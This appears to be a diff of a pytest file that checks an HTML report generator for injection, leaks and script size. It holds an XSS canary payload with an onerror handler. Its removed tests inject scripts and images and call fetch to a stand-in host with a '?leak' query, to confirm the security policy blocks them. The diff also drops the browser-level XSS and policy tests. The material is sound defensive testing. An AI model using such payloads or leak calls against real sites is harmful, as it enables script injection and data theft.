@@ -10,10 +10,12 @@ from pathlib import Path
 import pytest
 
 from pyrometer.report import html
+from pyrometer.report.inline import inline, script
+from pyrometer.report.widgets import PLACES
 
 CANARY = "</script><img src=x onerror=\"document.title='owned'\">"
 SECRET = "canary-secret-of-the-environment"
-RAW_BYTES, PACKED_BYTES = 250_000, 90_000
+RAW_BYTES, PACKED_BYTES = 250_000, 80_000
 
 
 @pytest.fixture(scope="module")
@@ -34,23 +36,6 @@ class Addresses(HTMLParser):
         self.found += [value or "" for name, value in attrs if name in names]
 
 
-def every_page(page):
-    for name in [link.get_attribute("href") for link in page.locator("nav.pages a").all()]:
-        page.evaluate("name => { location.hash = name }", name)
-        page.wait_for_function("name => '#/' + document.body.dataset.shown == name", arg=name)
-        page.wait_for_timeout(100)
-        yield name
-
-
-def test_text_of_users_is_never_markup(open_page, poisoned):
-    page = open_page(*poisoned)
-    for name in every_page(page):
-        assert page.locator("img[src=x]").count() == 0, name
-        assert "owned" not in page.title().replace(CANARY, ""), name
-    scripts = page.locator("script:not([type])")
-    assert scripts.count() == 2
-
-
 def test_text_of_users_is_escaped_in_the_file(poisoned):
     text = html.page(*poisoned)
     assert CANARY not in text
@@ -64,37 +49,6 @@ def test_nothing_of_the_environment_is_told(rich, monkeypatch):
     assert SECRET not in text
 
 
-def test_the_policy_stops_calls_scripts_styles_and_frames(open_page, perception, watch):
-    page = open_page(perception)
-    blocked = []
-    page.on("requestfailed", lambda request: blocked.append((request.url, request.failure)))
-    page.evaluate(
-        "window.stopped = []; document.addEventListener('securitypolicyviolation',"
-        "event => window.stopped.push(event.effectiveDirective))"
-    )
-    answer = page.evaluate(
-        "fetch('https://example.invalid/?leak').then(() => 'let through', () => 'stopped')"
-    )
-    assert answer == "stopped"
-    page.evaluate(
-        "() => { const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));"
-        "add('script', {textContent: 'window.ran = true'}); add('style', {textContent: 'body {color: red}'});"
-        "add('iframe', {src: 'data:text/html,x'}); add('img', {src: 'https://example.invalid/leak.png'});"
-        "new Image().src = 'https://example.invalid/leak2.png'; document.body.setAttribute('style', 'color: red') }"
-    )
-    page.wait_for_function("window.stopped.length >= 5")
-    assert page.evaluate("window.ran") is None
-    wanted = {"connect-src", "script-src-elem", "style-src-elem", "frame-src", "img-src"}
-    assert wanted <= set(page.evaluate("window.stopped"))
-    page.evaluate("() => { setTimeout('window.ran = true', 0) }")
-    page.wait_for_function("window.stopped.length >= 6")
-    assert page.evaluate("window.ran") is None
-    assert len(watch.console) >= 6
-    watch.console.clear()
-    assert {(url, "csp") for url in watch.requests} <= set(blocked)
-    watch.requests.clear()
-
-
 def test_nothing_is_addressed_outside(poisoned, rich):
     for case in (poisoned, rich()):
         for address in Addresses(html.page(*case)).found:
@@ -106,14 +60,19 @@ def test_the_same_document_gives_the_same_bytes(rich):
     assert html.page(*case) == html.page(*case)
 
 
-def test_the_script_is_small():
-    script = str(html.inline("report.js").text).encode()
-    assert len(script) <= RAW_BYTES
+def test_the_script_of_the_fullest_page_is_small():
+    """All that runs in a page with every drawing of a run: not data, and not the worker, which only starts for graphs."""
+    drawn = {widget for areas in PLACES.values() for widget, page in areas if page != "comparison"}
+    runs = "".join(one.text for one in (inline("theme.js"), script(drawn))).encode()
+    assert len(runs) <= RAW_BYTES
+    assert len(gzip.compress(runs, 9)) <= PACKED_BYTES
 
 
-def test_the_packed_script_is_small():
-    script = str(html.inline("report.js").text).encode()
-    assert len(gzip.compress(script, 9)) <= PACKED_BYTES
+def test_a_page_runs_nothing_else(rich):
+    text = html.page(*rich())
+    widgets = set(re.findall(r'data-widget="(\w+)"', text))
+    allowed = [str(one.text) for one in (inline("theme.js"), script(widgets))]
+    assert re.findall(r"<script>(.*?)</script>", text, re.DOTALL) == allowed
 
 
 def test_a_typical_page_is_small(rich):
